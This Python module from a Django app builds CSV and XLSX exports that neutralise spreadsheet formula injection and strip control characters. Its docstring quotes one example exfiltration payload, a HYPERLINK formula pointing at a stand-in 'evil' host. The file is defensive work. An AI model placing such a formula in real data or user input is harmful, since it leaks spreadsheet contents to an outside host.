"""Spreadsheet exports (CSV and XLSX): one place that makes every cell safe to open.

Exports carry text that strangers typed — a client books online under any name — and two
things went wrong with it:

- **Formula injection.** A spreadsheet evaluates a cell that starts with `=`, `+`, `-` or
  `@` (and, after trimming, one that starts with a tab or a carriage return), so a client
  named `=HYPERLINK("http://evil/?"&A1,"x")` became a live formula in the owner's Excel.
  Following OWASP, such a text cell is neutralised:
  - in CSV it gets a leading apostrophe. `defusedcsv` does this for `= + - @ | %` (leaving
    numbers such as `-30.00` alone); tab and carriage return, which it does not cover, are
    handled here first.
  - in XLSX the text is kept exactly and written as a *string* cell (openpyxl would have
    turned a leading `=` into a formula) with Excel's `quotePrefix` flag — what Excel
    itself stores when you type a leading apostrophe — so the cell stays text even when
    someone edits it, and no apostrophe shows.
- **Control characters.** openpyxl refuses a workbook with a vertical tab or an escape in
  any cell (`IllegalCharacterError` → a 500 for the whole export), and a NUL has no place
  in a file people open. Input is cleaned by the services (`core.text`), and exports strip
  again, because rows stored before that still exist.

Numbers stay numbers: an int, or a `Decimal` — a money amount, written with two decimals —
goes into the sheet as a number, negative ones included.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence
from datetime import datetime
from decimal import Decimal
from typing import Any

from defusedcsv import csv as defusedcsv
from django.http import HttpResponse
from django.utils import formats, timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from zapys.core.text import strip_control

#: A column heading: text, or a lazy translation rendered in the request's language.
Label = str | Promise
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
#: What a Ukrainian Excel splits a CSV line on (its list separator; the decimal one is ",").
CSV_DELIMITER = ";"
#: How a cell that a spreadsheet would evaluate starts (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Money is exported as a number with two decimals, as the report shows it.
MONEY_FORMAT = "0.00"


def export_moment(value: datetime | None) -> str:
    """A moment as the business reads it, in the organization's zone (active for every staff
    request): "03.12.2026 14:30", which a Ukrainian Excel also takes for a date and time."""
    if value is None:
        return ""
    return formats.date_format(timezone.localtime(value), "d.m.Y H:i")


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | Decimal) and not isinstance(value, bool)


def _text(value: Any) -> str:
    return strip_control("" if value is None else str(value))


def starts_like_formula(text: str) -> bool:
    """True for text a spreadsheet would evaluate (or trim into something it evaluates)."""
    return text.startswith(FORMULA_STARTS)


# --- CSV ----------------------------------------------------------------------------------


def _csv_cell(value: Any) -> Any:
    if isinstance(value, Decimal):
        # Excel with Ukrainian regional settings reads "200,00" as a number, "200.00" as text.
        return f"{value:.2f}".replace(".", ",")
    if _is_number(value):
        return value
    text = _text(value)
    # defusedcsv leaves a leading tab or CR alone; Excel trims them and evaluates the rest.
    if text.startswith(("\t", "\r")):
        return "'" + text
    return text


def csv_response(
    filename: str, header: Sequence[Label], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV download that a Ukrainian Excel opens into columns: UTF-8 with a BOM (so Excel
    does not read Cyrillic as cp1251), `;` between cells (the list separator of a Ukrainian
    Windows: with `,` every row landed in one column) and money with a decimal comma; every
    cell cleaned of control characters and neutralised when it starts like a formula."""
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = defusedcsv.writer(response, delimiter=CSV_DELIMITER)
    writer.writerow([_csv_cell(v) for v in header])
    writer.writerows([_csv_cell(v) for v in row] for row in rows)
    return response


# --- XLSX ---------------------------------------------------------------------------------


def _xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> Any:
    if _is_number(value):
        if isinstance(value, Decimal):
            cell = WriteOnlyCell(sheet, value=value)
            cell.number_format = MONEY_FORMAT
            return cell
        return value
    text = _text(value)
    if not starts_like_formula(text):
        return text or None
    cell = WriteOnlyCell(sheet, value=text)  # openpyxl binds a leading "=" as a formula...
    cell.data_type = "s"  # ...so say explicitly that it is text,
    cell.quotePrefix = True  # and keep it text if someone edits it in Excel.
    return cell


def xlsx_response(
    filename: str, sheet_title: str, header: Sequence[Label], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """An XLSX download written row by row (openpyxl's write-only mode: memory does not grow
    with the report), every text cell cleaned and never a formula."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(sheet_title)
    sheet.append([_xlsx_cell(sheet, v) for v in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, v) for v in row])
    out = io.BytesIO()
    workbook.save(out)
    response = HttpResponse(out.getvalue(), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
